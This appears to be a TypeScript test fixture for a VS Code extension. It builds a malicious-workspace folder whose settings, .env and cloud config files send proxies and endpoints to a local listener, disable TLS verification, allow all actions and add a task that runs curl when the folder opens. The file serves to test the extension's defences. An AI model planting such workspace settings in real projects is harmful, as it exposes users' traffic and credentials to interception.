import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import os from 'node:os';
import path from 'node:path';

/** What a setting of ours could be called, if there were any: where requests go, what is asked before they do. */
const NAMES = [
  ...['endpoint', 'endpoints', 'host', 'proxy', 'network', 'network.proxy', 'network.endpoints', 'caFile'],
  ...['safety', 'profiles', 'confirm', 'confirmation', 'production', 'readOnly', 'sampleCloud.origin'],
];

/** A folder whose author wants to see, or to change, what is sent for the person who opens it; and where that goes. */
export class HostileFolder {
  readonly path = fs.mkdtempSync(path.join(os.tmpdir(), 'clusterdeck-hostile-'));
  /** What reached its author. */
  readonly heard: string[] = [];
  readonly #server: http.Server;

  private constructor(server: http.Server) {
    this.#server = server;
  }

  static async start(): Promise<HostileFolder> {
    const server = http.createServer();
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const folder = new HostileFolder(server);
    const hear = (what: string) => folder.heard.push(what);
    server.on('request', ({ method, url }, response) => {
      hear(`${method} ${url}`);
      response.end();
    });
    server.on('connect', ({ url }, socket) => {
      hear(`CONNECT ${url}`);
      socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
    });
    folder.#write(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    return folder;
  }

  async stop(): Promise<void> {
    this.#server.close();
    this.#server.closeAllConnections();
    await once(this.#server, 'close');
    fs.rmSync(this.path, { recursive: true, force: true });
  }

  #write(own: string): void {
    const ours: Readonly<Record<string, string>> = Object.fromEntries(
      NAMES.flatMap((name) => [`clusterdeck.${name}`, `clusterdeck.alibaba.${name}`]).map((name) => [
        name,
        own,
      ]),
    );
    const environment = {
      HTTPS_PROXY: own,
      https_proxy: own,
      CLUSTERDECK_SAMPLE_CLOUD_STATE: this.path,
      CLUSTERDECK_START: 'sample',
      ALIBABA_CLOUD_ENDPOINT: own,
      NODE_TLS_REJECT_UNAUTHORIZED: '0',
    };
    this.#file('.vscode/settings.json', {
      'http.proxy': own,
      'http.proxySupport': 'override',
      'http.proxyStrictSSL': false,
      'http.noProxy': [],
      'http.systemCertificates': false,
      'http.systemCertificatesNode': false,
      'http.electronFetch': true,
      'terminal.integrated.env.linux': environment,
      'remote.extensionKind': { 'clusterdeck.clusterdeck': ['workspace'] },
      'extensions.supportUntrustedWorkspaces': { 'clusterdeck.clusterdeck': { supported: false } },
      clusterdeck: { safety: 'normal', endpoint: own, confirm: false },
      ...ours,
    });
    this.#file('.vscode/tasks.json', {
      version: '2.0.0',
      tasks: [
        {
          label: 'open',
          type: 'shell',
          command: `curl ${own}/task`,
          options: { env: environment },
          runOptions: { runOn: 'folderOpen' },
        },
      ],
    });
    this.#file('.vscode/launch.json', { version: '0.2.0', configurations: [] });
    this.#file('.env', environment);
    const keys = { access_key_id: 'LTAI5tHostile00001', access_key_secret: 'hostile-secret-0001' };
    const profile = { name: 'hostile', mode: 'AK', ...keys, endpoint: own };
    this.#file('.aliyun/config.json', { current: 'hostile', profiles: [profile] });
    this.#file('.aliyun/safety-policy.json', { enabled: true, rules: [{ pattern: '*:*', action: 'allow' }] });
    this.#file('clusterdeck.json', { endpoint: own, safety: 'normal' });
    this.#file('profiles/hostile.json', { order: 1, profile: { id: 'hostile', name: 'hostile' } });
  }

  #file(name: string, content: object): void {
    const file = path.join(this.path, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    const lines = Object.entries(content).map(([key, value]) => `${key}=${String(value)}`);
    fs.writeFileSync(file, name === '.env' ? lines.join('\n') : JSON.stringify(content, null, 2));
  }
}
